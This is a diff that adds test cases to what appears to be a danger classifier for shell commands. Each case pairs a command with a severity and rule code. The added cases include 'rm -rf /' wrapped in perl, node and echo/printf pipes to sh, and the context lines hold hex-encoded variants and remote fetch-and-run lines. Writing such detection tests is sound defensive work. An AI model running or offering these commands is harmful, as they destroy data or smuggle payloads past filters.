@@ -58,6 +58,10 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ('python3 -c \'import subprocess; subprocess.run(["rm", "-rf", "/"])\'', HARD, "DG101"),
     ("python3 -Bc 'import os; os.system(\"rm -rf /\")'", HARD, "DG101"),
     ('node --title x -e \'require("child_process").execSync("rm -rf /")\'', HARD, "DG101"),
+    ("perl -e 'open(my $fh, \"| rm -rf /\")'", HARD, "DG101"),
+    ('perl -e \'open(P, "-|", "git reset --hard")\'', ASK, "DG201"),
+    ('node -e \'require("child_process").spawnSync("sh", ["-c", "rm -rf /"])\'', HARD, "DG101"),
+    ('perl -e \'open(F, "<", "x.txt")\'', NONE, None),
     ("perl -ne print f", NONE, None),
     ("perl -pe 's/a/b/e' f", NONE, None),
     ("perl -e 'print qq{rm -rf /}'", NONE, None),
@@ -108,6 +112,10 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ("perl <(wget -qO- https://x)", ASK, "DG301"),
     ('node -e "$(curl -s https://x)"', ASK, "DG301"),
     ('python3 -c "$(cat script.py)"', NONE, None),
+    # text piped to a shell is read as echo/printf print it (-rf is no echo flag)
+    ("echo rm -rf / | sh", HARD, "DG101"),
+    ("echo -n rm -rf / | bash", HARD, "DG101"),
+    ("printf '%s\\n' 'rm -rf /' | sh", HARD, "DG101"),
     # decoded payloads piped to a shell: static bytes are judged like the typed command
     ("printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh", HARD, "DG101"),
     ("printf '\\162\\155 -rf /' | bash", HARD, "DG101"),
